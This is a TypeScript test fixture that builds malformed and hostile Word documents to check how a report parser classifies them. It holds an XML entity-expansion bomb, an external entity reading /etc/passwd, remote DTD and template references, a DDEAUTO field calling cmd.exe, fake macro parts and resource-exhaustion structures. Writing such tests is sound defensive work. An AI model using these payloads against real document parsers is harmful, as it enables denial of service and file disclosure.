import { strToU8, zipSync } from "fflate";
import { documentXml, packDocx, renderDocx, renderDocxBody } from "../../corpus/render-report";
import { type HostileFile, latin1, MEGA, utf8, varied } from "./hostile-file";

const body = renderDocxBody();
const docx = (xml: string | Uint8Array) =>
  zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "word/document.xml": typeof xml === "string" ? strToU8(xml) : xml });
const withDoctype =
  (doctype: string, inside = "") =>
  () =>
    docx(documentXml(body + inside).replace("<w:document", `${doctype}<w:document`));
const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, i) => `<!ENTITY a${i + 1} "&a${i};&a${i};">`).join("")}]>`;
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const table = (rows: string) => `<w:tbl>${rows}</w:tbl>`;

/** Word documents: what XML, macros and links can be made to do. */
export const documents: readonly HostileFile[] = [
  { name: "docx-billion-laughs.docx", bytes: withDoctype(laughs, paragraph("&a30;")), expected: ["hostile"] },
  {
    name: "docx-external-entity.docx",
    bytes: withDoctype('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', paragraph("&f;")),
    expected: ["hostile"],
  },
  { name: "docx-external-dtd.docx", bytes: withDoctype('<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'), expected: ["hostile"] },
  { name: "docx-unknown-entity.docx", bytes: () => docx(documentXml(body + paragraph("&passwd;"))), expected: ["damaged"] },
  { name: "docx-macros.docx", bytes: () => packDocx(body, { "word/vbaProject.bin": utf8("x") }), expected: ["hostile"] },
  { name: "docx-macros-elsewhere.docx", bytes: () => packDocx(body, { "customXml/VBAPROJECT.BIN": utf8("x") }), expected: ["hostile"] },
  {
    name: "docx-external-template.docx",
    bytes: () =>
      packDocx(body, {
        "word/_rels/settings.xml.rels": utf8(
          '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>',
        ),
      }),
    expected: ["read"],
    never: "192.0.2.1",
  },
  {
    name: "docx-embedded-object.docx",
    bytes: () => packDocx(body, { "word/embeddings/oleObject1.bin": new Uint8Array(MEGA) }),
    expected: ["read"],
  },
  {
    name: "docx-command-field.docx",
    bytes: () => packDocx(`${body}<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>`),
    expected: ["read"],
    never: "DDEAUTO",
  },
  {
    name: "docx-script-as-text.docx",
    bytes: () => packDocx(body + paragraph("&lt;script&gt;alert(1)&lt;/script&gt;")),
    expected: ["read"],
  },
  {
    name: "docx-hidden-figures.docx",
    bytes: () =>
      packDocx(
        body.replace(
          '<w:r><w:t xml:space="preserve">309<',
          '<w:r><w:rPr><w:vanish/></w:rPr><w:t>9</w:t></w:r><w:r><w:t xml:space="preserve">309<',
        ),
      ),
    expected: ["read"],
    cells: { "applications.newReceived.naturalPerson": 309 },
  },
  {
    name: "docx-nested-tables.docx",
    bytes: () => packDocx(`${"<w:tbl><w:tr><w:tc>".repeat(20_000)}${"</w:tc></w:tr></w:tbl>".repeat(20_000)}`),
    expected: ["hostile"],
  },
  {
    name: "docx-nested-elements.docx",
    bytes: () => packDocx(`${varied('<w:sdt w:a="#">', 100_000)}${"</w:sdt>".repeat(100_000)}`),
    expected: ["hostile"],
  },
  {
    name: "docx-100000-rows.docx",
    bytes: () => packDocx(body + table(varied('<w:tr w:rsidR="#"><w:tc><w:p/></w:tc></w:tr>', 100_000))),
    expected: ["tooLarge"],
  },
  {
    name: "docx-100000-cells-in-a-row.docx",
    bytes: () => packDocx(body + table(`<w:tr>${varied('<w:tc><w:p w:rsidR="#"/></w:tc>', 100_000)}</w:tr>`)),
    expected: ["tooLarge"],
  },
  {
    name: "docx-grid-spans-999.docx",
    bytes: () =>
      packDocx(body + table(`<w:tr>${varied('<w:tc><w:tcPr><w:gridSpan w:val="999"/></w:tcPr><w:p w:a="#"/></w:tc>', 5_000)}</w:tr>`)),
    expected: ["read", "tooLarge"],
  },
  {
    name: "docx-grid-span-no-number.docx",
    bytes: () => packDocx(body.replaceAll('<w:gridSpan w:val="7"/>', '<w:gridSpan w:val="1e9"/>')),
    expected: ["read"],
  },
  {
    name: "docx-merged-without-end.docx",
    bytes: () => packDocx(body + table(varied('<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p w:a="#"/></w:tc></w:tr>', 30_000))),
    expected: ["read", "tooLarge"],
  },
  {
    name: "docx-text-of-30-megabytes.docx",
    bytes: () => packDocx(body + paragraph(varied("数字#", 400_000))),
    expected: ["tooLarge", "hostile"],
  },
  {
    name: "docx-attribute-of-3-megabytes.docx",
    bytes: () => packDocx(`<w:p w:a="${Array.from({ length: 600_000 }, (_, i) => i.toString(36)).join(" ")}"/>${body}`),
    expected: ["read", "tooLarge", "hostile"],
  },
  {
    name: "docx-50000-attributes.docx",
    bytes: () => packDocx(`<w:p ${Array.from({ length: 50_000 }, (_, i) => `a${i}="1"`).join(" ")}/>${body}`),
    expected: ["read"],
  },
  {
    name: "docx-attribute-prototype.docx",
    bytes: () => packDocx(`<w:p __proto__="1" constructor="2" toString="3"/>${body}`),
    expected: ["read"],
  },
  {
    name: "docx-blanks-in-formatting.docx",
    bytes: () => packDocx(`<w:b${" ".repeat(900_000)}x${body}`),
    expected: ["damaged", "hostile"],
  },
  { name: "docx-unclosed-formatting.docx", bytes: () => packDocx(`${varied('<w:sz w:val="#" ', 200_000)}${body}`), expected: ["damaged"] },
  {
    name: "docx-million-runs.docx",
    bytes: () => packDocx(`<w:p>${varied("<w:r><w:t>#</w:t></w:r>", 250_000)}</w:p>${body}`),
    expected: ["read", "notAReport", "hostile", "timeout"],
  },
  { name: "docx-million-paragraphs.docx", bytes: () => packDocx(body + varied(paragraph("#"), 400_000)), expected: ["tooLarge"] },
  { name: "docx-control-characters.docx", bytes: () => packDocx(body + paragraph("a\u0001b\u0008c")), expected: ["damaged"] },
  { name: "docx-nul-character.docx", bytes: () => packDocx(body + paragraph("a\0b")), expected: ["damaged"] },
  {
    name: "docx-invalid-utf8.docx",
    bytes: () =>
      docx(
        Buffer.concat([
          utf8(documentXml(body).replace("</w:body></w:document>", "<w:p><w:r><w:t>")),
          latin1("\xc3\x28\xff\xfe\xf8"),
          utf8("</w:t></w:r></w:p></w:body></w:document>"),
        ]),
      ),
    expected: ["damaged"],
  },
  {
    name: "docx-in-utf16.docx",
    bytes: () => docx(Buffer.concat([latin1("\xff\xfe"), Buffer.from(documentXml(body).replace("UTF-8", "UTF-16"), "utf16le")])),
    expected: ["damaged", "read"],
  },
  {
    name: "docx-turned-text.docx",
    bytes: () => packDocx(body.replace(">309<", ">\u202e903\u202c<")),
    expected: ["read"],
    cells: { "applications.newReceived.naturalPerson": null },
  },
  {
    name: "docx-zero-width-in-a-number.docx",
    bytes: () => packDocx(body.replace(">309<", ">3\u200b09<")),
    expected: ["read"],
    cells: { "applications.newReceived.naturalPerson": null },
  },
  { name: "docx-no-namespace.docx", bytes: () => docx(documentXml(body).replace(/ xmlns:\w+="[^"]*"/gu, "")), expected: ["damaged"] },
  {
    name: "docx-main-part-missing.docx",
    bytes: () => zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "word/styles.xml": strToU8("<a/>") }),
    expected: ["archive"],
  },
  { name: "docx-named-pdf.pdf", bytes: () => renderDocx(), expected: ["read"], cells: { "applications.newReceived.naturalPerson": 309 } },
];
